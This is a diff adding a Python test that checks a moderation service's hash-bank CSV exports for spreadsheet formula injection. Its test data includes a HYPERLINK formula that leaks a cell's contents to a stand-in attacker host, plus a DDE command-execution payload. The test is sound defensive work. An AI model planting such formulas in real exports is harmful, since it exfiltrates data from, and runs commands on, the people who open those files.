@@ -99,3 +99,24 @@ def test_an_imported_image_of_too_many_pixels_is_refused_before_it_is_decoded(se
         svc.examples_import(actor=lead, category=category, files=[("big.png", buffer.getvalue())])
     assert bad.value.code == "too_many_pixels" and "big.png" in bad.value.message
     assert not category.examples.exists()
+
+
+def test_a_bank_export_holds_no_spreadsheet_formula(lead):
+    """A note or bank name typed as a formula must not run in the spreadsheet
+    of the lead who opens the export; the list still imports back."""
+    import csv
+
+    from moderation.models import BankedHash, HashBank
+    from moderation.services.bank_files import bank_export, bank_file_import
+
+    bank = HashBank.objects.create(name='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    pdq = "f" * 64
+    bank_file_import(bank_id=bank.pk, actor=lead, text=pdq, note="@SUM(1+1)*cmd|' /C calc'!A0")
+    for fmt in ("csv", "threatexchange-csv"):
+        _, _, lines = bank_export(bank_id=bank.pk, actor=lead, fmt=fmt)
+        text = "".join(lines)
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], fmt
+        target = HashBank.objects.create(name=f"copy {fmt}")
+        assert bank_file_import(bank_id=target.pk, actor=lead, text=text).added == 1
+        assert BankedHash.objects.filter(bank=target, pdq_hash=pdq).exists()
